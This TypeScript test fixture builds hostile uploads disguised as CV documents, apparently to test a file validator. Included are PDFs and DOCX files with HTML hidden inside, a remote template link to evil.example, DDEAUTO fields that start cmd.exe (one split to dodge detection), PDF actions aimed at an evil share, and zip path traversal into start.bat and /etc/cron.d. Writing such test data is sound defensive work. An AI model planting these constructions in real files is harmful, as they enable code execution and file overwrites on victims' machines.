import { aDoc, aDocx, anExe, aPdf, aZip, type ZipPart } from '../files.ts';
import { hostilePdfs, pdfOf } from '../pdfs.ts';
import { type HostileFile, page } from './hostile-file.ts';

const after = (first: Buffer | string, second: Buffer | string) =>
  Buffer.concat([Buffer.from(first), Buffer.from(second)]);
const docx = (what: string, more: readonly ZipPart[]): HostileFile => ({
  what: `a DOCX ${what}`,
  name: 'cv.docx',
  make: () => aDocx(more),
});
/** Far behind the head, where no reader takes the PDF for the page. */
const withEmbeddedFile = () =>
  pdfOf([
    '<< /Type /Catalog /Names << /EmbeddedFiles 2 0 R >> >>',
    '<< /Names [(a.html) 3 0 R] >>',
    '<< /Type /Filespec /F (a.html) /EF << /F 4 0 R >> >>',
    { dictionary: '/Type /EmbeddedFile', stream: Buffer.from(`${' '.repeat(1_500)}${page}`) },
  ]);
const relation = (type: string, mode: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/a.dotm" TargetMode="${mode}"/></Relationships>`;
const field = (words: string) => `<w:instrText xml:space="preserve">${words}</w:instrText>`;
/** Its directory goes round in a circle. */
const endlessDoc = () => {
  const file = aDoc();
  file.writeUInt32LE(1, 516);
  return file;
};

/** Files that claim to be documents; the PDFs with scripts are those of `pdfs.ts`. */
export const hostileDocuments: HostileFile[] = [
  ...hostilePdfs.map(([what, bytes]) => ({ what: `a PDF that ${what}`, name: 'a.pdf', make: () => bytes })),
  { what: 'an HTML page named pdf', name: 'a.pdf', make: () => Buffer.from(page) },
  { what: 'an HTML page with a PDF after it', name: 'a.pdf', make: () => after(page, aPdf()) },
  {
    what: 'a PDF with HTML behind its head',
    name: 'a.pdf',
    make: () => after(`%PDF-1.7\n%${page}\n`, aPdf()),
  },
  {
    what: 'a PDF with a zip after its end',
    name: 'a.pdf',
    make: () => after(aPdf(), aZip([{ name: 'a.html', data: Buffer.from(page) }])),
  },
  { what: 'a PDF without its end', name: 'a.pdf', make: () => aPdf().subarray(0, -30) },
  {
    what: 'a PDF behind a kilobyte of something else',
    name: 'a.pdf',
    make: () => after(Buffer.alloc(1_000, 32), aPdf()),
  },
  { what: 'a PDF with an HTML page among its files', name: 'a.pdf', make: withEmbeddedFile },
  {
    what: 'a PDF of a version that does not exist',
    name: 'a.pdf',
    make: () => Buffer.from(String(aPdf()).replace('%PDF-1.7', '%PDF-9.9')),
  },
  docx('with macros', [{ name: 'word/vbaProject.bin', data: Buffer.alloc(9) }]),
  ...(
    [
      ['with a program', 'word/embeddings/setup.exe'],
      ['with an embedded object', 'word/embeddings/oleObject1.bin'],
      ['with a control', 'word/activeX/activeX1.xml'],
      ['with macros under another name', 'word/settings1.bin'],
    ] as const
  ).map(([what, name]) => docx(what, [{ name, data: Buffer.alloc(9) }])),
  ...(
    [
      ['with a template from the net', '_rels/settings.xml.rels', relation('attachedTemplate', 'External')],
      [
        'with a relation hidden by an entity',
        '_rels/settings.xml.rels',
        relation('attachedTemplate', 'Ext&#101;rnal'),
      ],
      ['whose relations name macros', '_rels/document.xml.rels', relation('vbaProject', 'Internal')],
      ['with a field that starts a program', 'document2.xml', field('DDEAUTO c:\\windows\\cmd.exe')],
      ['with such a field in pieces', 'document2.xml', `${field('DDEA')}${field('UTO cmd')}`],
    ] as const
  ).map(([what, name, xml]) => docx(what, [{ name: `word/${name}`, data: Buffer.from(xml) }])),
  ...(['SubmitForm', 'ImportData', 'GoToR', 'GoToE'] as const).map((action) => ({
    what: `a PDF with the action ${action}`,
    name: 'a.pdf',
    make: () => pdfOf([`<< /Type /Catalog /OpenAction << /S /${action} /F (\\\\evil\\share) >> >>`]),
  })),
  docx('that says it unpacks to 4 GB', [{ name: 'word/media/a.png', claimedBytes: 0xfffffff0 }]),
  docx(
    'of 3,000 parts',
    Array.from({ length: 3_000 }, (_, index) => ({ name: `word/${index}.xml` })),
  ),
  docx('with a part outside its folder', [{ name: '../../start.bat' }]),
  docx('with an absolute path', [{ name: '/etc/cron.d/a' }]),
  docx('with a NUL in a name', [{ name: 'word/a.xml\0.exe' }]),
  docx('with a part twice', [{ name: 'word/document.xml' }]),
  docx('with an encrypted part', [{ name: 'word/a.xml', flags: 1 }]),
  { what: 'a DOCX behind a program', name: 'cv.docx', make: () => after(anExe(), aDocx()) },
  { what: 'a DOCX with a page after its end', name: 'cv.docx', make: () => after(aDocx(), page) },
  { what: 'a DOCX without its directory', name: 'cv.docx', make: () => aDocx().subarray(0, -30) },
  {
    what: 'a zip named docx',
    name: 'cv.docx',
    make: () => aZip([{ name: 'a.html', data: Buffer.from(page) }]),
  },
  {
    what: 'a Java program named docx',
    name: 'cv.docx',
    make: () => aZip([{ name: 'META-INF/MANIFEST.MF' }, { name: 'A.class' }]),
  },
  {
    what: 'a DOC with macros',
    name: 'cv.doc',
    make: () => aDoc(['Root Entry', 'WordDocument', 'Macros', 'VBA']),
  },
  { what: 'an OLE file that is no document', name: 'cv.doc', make: () => aDoc(['Root Entry', 'Workbook']) },
  {
    what: 'a DOC with a zip after its end',
    name: 'cv.doc',
    make: () => after(aDoc(), aZip([{ name: 'a.html' }])),
  },
  { what: 'a DOC whose directory never ends', name: 'cv.doc', make: endlessDoc },
  { what: 'the first half of a DOC', name: 'cv.doc', make: () => aDoc().subarray(0, 1_500) },
  {
    what: 'RTF with an object, named doc',
    name: 'cv.doc',
    make: () => Buffer.from('{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}'),
  },
  { what: 'a program named doc', name: 'cv.doc', make: anExe },
  { what: 'a shell script named pdf', name: 'cv.pdf', make: () => Buffer.from('#!/bin/sh\nid\n') },
];
